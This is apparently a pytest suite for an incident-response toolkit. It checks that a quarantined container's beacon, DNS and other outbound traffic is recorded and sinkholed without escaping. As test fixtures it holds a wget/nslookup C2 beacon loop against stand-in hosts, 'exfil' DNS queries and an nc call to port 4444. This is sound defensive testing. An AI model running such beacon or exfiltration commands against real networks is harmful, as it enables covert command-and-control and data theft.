"""A target that runs on in a quarantine network, recorded and answered by the host."""

from __future__ import annotations

import base64
import json
import os
import re
import shutil
import socket
import subprocess
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from irkit.errors import Refused
from irkit.netns import in_netns
from irkit.observe import diversion
from irkit.observe.pcap import Recorder
from irkit.observe.sinkhole import Limits, Sinkhole
from irkit.quarantine.seal import OPTIONS

from .conftest import Lab

BUSYBOX = "irkit-dev/busybox:1"
BEACON = (
    "while :; do wget -q -O- http://beacon.example.net:8443/x; nslookup c2.example.org; sleep 0.3; done >/dev/null 2>&1"
)

pytestmark = pytest.mark.skipif(
    os.geteuid() != 0 or not (shutil.which("nft") and shutil.which("ip")), reason="needs root, nft and ip"
)


@dataclass
class Watched:
    """A target in a quarantine network, and everything seen of it."""

    name: str
    netns: str
    events: list[dict[str, Any]] = field(default_factory=list)
    pcap: bytearray = field(default_factory=bytearray)

    def recorder(self, netns: str = "", **options: Any) -> Recorder:
        return Recorder(
            netns or self.netns, self.pcap.extend, **{"limit_bytes": 1 << 26, "limit_seconds": 60.0, **options}
        )

    def sinkhole(self, **options: Any) -> Sinkhole:
        return Sinkhole(self.netns, self.events.append, **options)

    def until(self, wanted: Callable[[dict[str, Any]], bool], seconds: float = 15) -> dict[str, Any]:
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            for event in list(self.events):
                if wanted(event):
                    return event
            time.sleep(0.05)
        raise AssertionError(self.events)


@pytest.fixture
def watch(lab: Lab) -> Callable[..., Watched]:
    def make(*argv: str, command: str = "sleep 600") -> Watched:
        options = [part for key, value in OPTIONS.items() for part in ("-o", f"{key}={value}")]
        network = lab.network("quarantine", "--internal", *options)
        name = lab.run("target", "--network", network, *argv, image=BUSYBOX, command=("sh", "-c", command))
        pid = lab.docker("inspect", "-f", "{{.State.Pid}}", name)
        return Watched(name, f"/proc/{pid}/ns/net")

    return make


def rules(watched: Watched) -> tuple[str, str]:
    """Firewall and policy routes of the target's namespace, whatever the counters say."""
    ruleset = inside(watched, "nft", "list", "ruleset")
    return re.sub(r"packets \d+ bytes \d+", "", ruleset), inside(watched, "ip", "rule")


def inside(watched: Watched, *argv: str) -> str:
    """The output of a host's tool in the target's namespace."""
    done = in_netns(
        watched.netns, lambda: subprocess.run(argv, capture_output=True, text=True, timeout=20, check=False)
    )
    return done.stdout


def wire(*labels: bytes) -> bytes:
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\0"


def test_beacons_show_themselves_and_nothing_leaves(lab: Lab, watch: Callable[..., Watched], tmp_path: Path) -> None:
    watched = watch(command=BEACON)
    peer_name = lab.run("peer", "--network", f"{lab.token}-quarantine", image=BUSYBOX, command=("sleep", "600"))
    peer_pid = lab.docker("inspect", "-f", "{{.State.Pid}}", peer_name)
    before = rules(watched)
    outside, host = (Watched("", "") for _ in range(2))
    recorder = watched.recorder(loopback=True)
    recorder.start()
    with watched.sinkhole() as sinkhole:
        assert {"nft table", "IPv4 rule"} <= set(diversion.left(watched.netns))
        time.sleep(0.5)  # what was on its way before
        listeners = [
            outside.recorder(f"/proc/{peer_pid}/ns/net", loopback=True),
            host.recorder("/proc/self/ns/net", loopback=True),
        ]
        for one in listeners:
            one.start()
        seen = len(watched.events)
        beacon = watched.until(lambda event: event["kind"] == "tcp" and event["to"]["port"] == 8443)
        name = watched.until(lambda event: event["kind"] == "dns" and event["name"] == "beacon.example.net")
        watched.until(lambda event: event["kind"] == "dns" and event["name"] == "c2.example.org")
        end = time.monotonic() + 10
        while len(watched.events) < seen + 8 and time.monotonic() < end:
            time.sleep(0.05)
        assert len(watched.events) >= seen + 8
        for one in listeners:
            one.stop()
    recording = recorder.stop()

    assert beacon["to"] == {"address": "198.51.100.7", "port": 8443} and beacon["answered"] == "http"
    assert base64.b64decode(beacon["first_b64"]).startswith(b"GET /x HTTP/1.1\r\n")
    assert (name["type"], name["answer"]) == ("A", "198.51.100.7") and name["to"]["port"] == 53
    assert all(json.loads(json.dumps(event)) == event for event in watched.events)
    counts = sinkhole.counts
    assert counts.events == len(watched.events) and counts.not_stored == counts.refused == 0

    assert wire(b"beacon", b"example", b"net") in watched.pcap and b"Host: beacon.example.net:8443" in watched.pcap
    assert (
        socket.inet_aton("198.51.100.7") + (8443).to_bytes(2, "big") not in watched.pcap
    )  # ports follow both addresses
    assert recording.bytes == len(watched.pcap) and recording.packets > 20 and recording.dropped == 0
    for other in (outside, host):
        for trace in (b"beacon", b"\x02c2\x07example", socket.inet_aton("198.51.100.7")):
            assert trace not in other.pcap
    if shutil.which("tcpdump"):
        file = tmp_path / "target.pcap"
        file.write_bytes(watched.pcap)
        read = subprocess.run(["tcpdump", "-nr", str(file)], capture_output=True, text=True, timeout=30, check=True)
        assert "> 198.51.100.7.8443: Flags [S]" in read.stdout and "A? c2.example.org." in read.stdout

    assert diversion.left(watched.netns) == []
    assert rules(watched) == before
    assert inside(watched, "ip", "route", "show", "table", diversion.ROUTES) == ""


@pytest.mark.parametrize("routed", [True, False])  # newer engines give no default route on an internal network
def test_every_protocol_that_calls_home(lab: Lab, watch: Callable[..., Watched], routed: bool) -> None:
    watched = watch()
    if not routed:
        inside(watched, "ip", "route", "flush", "default")
        assert "default" not in inside(watched, "ip", "route")
    question = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + wire(b"exfil", b"\xff\x00", b"test") + b"\0\x10\0\1"

    def udp(to: tuple[str, int], data: bytes) -> bytes:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.connect(to)
            sock.settimeout(3)
            sock.send(data)
            return sock.recv(4096) if to[1] == 53 and data == question else b""

    def dns_tcp() -> bytes:
        with socket.create_connection(("192.0.2.1", 53), 3) as sock:
            message = len(question).to_bytes(2, "big") + question
            sock.sendall(message[:9])
            time.sleep(0.1)
            sock.sendall(message[9:])
            return sock.recv(4096)

    with watched.sinkhole(limits=Limits(seconds=1.0, first=4)):
        assert in_netns(watched.netns, lambda: udp(("9.9.9.9", 53), question))[:8] == b"\x12\x34\x81\x80\0\1\0\0"
        in_netns(watched.netns, lambda: udp(("9.9.9.9", 53), b"not dns"))
        in_netns(watched.netns, lambda: udp(("203.0.113.9", 9999), b"\x00\xffbeacon"))
        assert in_netns(watched.netns, dns_tcp)[2:4] == b"\x12\x34"
        lab.docker("exec", watched.name, "sh", "-c", "(echo hello; sleep 3) | nc 203.0.113.9 4444")
        silent = watched.until(lambda event: event["to"]["port"] == 4444)
    assert (silent["size"], silent["first_b64"], silent["closed"]) == (6, base64.b64encode(b"hell").decode(), "timeout")
    asked = [event for event in watched.events if event["kind"] == "dns"]
    assert [(one["transport"], one["type"], one["answer"]) for one in asked] == [("udp", "TXT", ""), ("tcp", "TXT", "")]
    assert {one["name"] for one in asked} == {r"exfil.\255\000.test"}
    odd = {(one["to"]["address"], one["to"]["port"]): one for one in watched.events if one["kind"] == "udp"}
    assert odd["9.9.9.9", 53]["size"] == 7
    assert base64.b64decode(odd["203.0.113.9", 9999]["first_b64"]) == b"\x00\xffbe"


def test_ipv6(watch: Callable[..., Watched]) -> None:
    watched = watch("--sysctl", "net.ipv6.conf.all.disable_ipv6=0")
    if not in_netns(watched.netns, diversion.has_ipv6):
        pytest.skip("no IPv6 in the container")
    inside(watched, "ip", "-6", "addr", "add", "2001:db8:1::5/64", "dev", "eth0", "nodad")
    question = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + wire(b"six", b"test") + b"\0\x01\0\1"

    def calls() -> tuple[bytes, bytes]:
        with socket.create_connection(("2001:db8::99", 8443), 3) as sock:
            sock.sendall(b"GET /six HTTP/1.1\r\n\r\n")
            answer = sock.recv(100)
        with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
            sock.connect(("2001:db8::53", 53))
            sock.settimeout(3)
            sock.send(question)
            return answer, sock.recv(4096)

    def own() -> str:
        with (
            socket.create_server(("::", 0), family=socket.AF_INET6) as server,
            socket.create_connection(("2001:db8:1::5", server.getsockname()[1]), 3) as sock,
        ):
            server.settimeout(3)
            accepted, _ = server.accept()
            accepted.close()
            return str(sock.getpeername()[0])

    with watched.sinkhole():
        assert "IPv6 rule" in diversion.left(watched.netns)
        http, reply = in_netns(watched.netns, calls)
        assert in_netns(watched.netns, own) == "2001:db8:1::5"
        tcp = watched.until(lambda event: event["kind"] == "tcp")
    assert http.startswith(b"HTTP/1.0 200 OK") and reply.endswith(socket.inet_aton("198.51.100.7"))
    assert tcp["to"] == {"address": "2001:db8::99", "port": 8443} and tcp["from"]["address"] == "2001:db8:1::5"
    assert [event["name"] for event in watched.events if event["kind"] == "dns"] == ["six.test"]
    assert diversion.left(watched.netns) == []


def test_limits_and_local_traffic(watch: Callable[..., Watched]) -> None:
    watched = watch()

    def flood() -> int:
        socks = [socket.create_connection(("203.0.113.1", 1000 + one), 3) for one in range(12)]
        closed, end = set(), time.monotonic() + 10
        while len(closed) < 8 and time.monotonic() < end:
            closed |= over(socks)
        time.sleep(0.3)
        closed |= over(socks)
        for sock in socks:
            sock.close()
        return len(closed)

    def over(socks: list[socket.socket]) -> set[int]:
        """Which were closed at the other end."""
        found = set()
        for number, sock in enumerate(socks):
            sock.settimeout(0.02)
            try:
                if sock.recv(1) == b"":
                    found.add(number)
            except ConnectionResetError:
                found.add(number)
            except TimeoutError:
                pass
        return found

    def local() -> bool:
        with (
            socket.create_server(("127.0.0.1", 0)) as server,
            socket.create_connection(server.getsockname(), 3) as sock,
        ):
            server.settimeout(3)
            accepted, _ = server.accept()
            with accepted:
                return sock.getpeername() == server.getsockname()

    with watched.sinkhole(limits=Limits(connections=4, events=3)) as sinkhole:
        assert in_netns(watched.netns, flood) == 8 and in_netns(watched.netns, local)
        end = time.monotonic() + 5
        while sinkhole.counts.not_stored < 1 and time.monotonic() < end:
            time.sleep(0.05)
    counts = sinkhole.close()
    assert (counts.tcp, counts.refused, counts.events, counts.not_stored) == (12, 8, 3, 1)
    assert len(watched.events) == 3


def test_what_a_killed_run_left_is_taken_over(watch: Callable[..., Watched]) -> None:
    watched = watch()
    diversion.divert(watched.netns, diversion.Ports(1, 2))
    assert diversion.left(watched.netns) == ["nft table", "IPv4 rule"]
    with watched.sinkhole():
        in_netns(watched.netns, lambda: socket.create_connection(("203.0.113.1", 80), 3)).close()
        watched.until(lambda event: event["to"]["port"] == 80)
    assert diversion.left(watched.netns) == []
    diversion.undo(watched.netns)


def test_the_end_of_the_target_is_no_trouble(lab: Lab, watch: Callable[..., Watched]) -> None:
    watched = watch()
    recorder, sinkhole = watched.recorder(loopback=True), watched.sinkhole()
    recorder.start()
    sinkhole.start()
    lab.docker("rm", "-f", watched.name)
    sinkhole.close()
    assert recorder.stop().ended == "stopped"


def test_a_failing_log_is_reported_and_undone(watch: Callable[..., Watched]) -> None:
    watched = watch()

    called = threading.Event()

    def full(_: dict[str, Any]) -> None:
        called.set()
        raise OSError(28, "No space left on device")

    sinkhole = Sinkhole(watched.netns, full)
    sinkhole.start()
    in_netns(watched.netns, lambda: socket.create_connection(("203.0.113.1", 80), 3)).close()
    assert called.wait(10)
    with pytest.raises(OSError, match="No space"):
        sinkhole.close()
    assert diversion.left(watched.netns) == []


def test_the_host_is_never_diverted() -> None:
    with pytest.raises(Refused, match="host"):
        Sinkhole("/proc/self/ns/net", lambda _: None).start()
    assert diversion.left("/proc/self/ns/net") == []
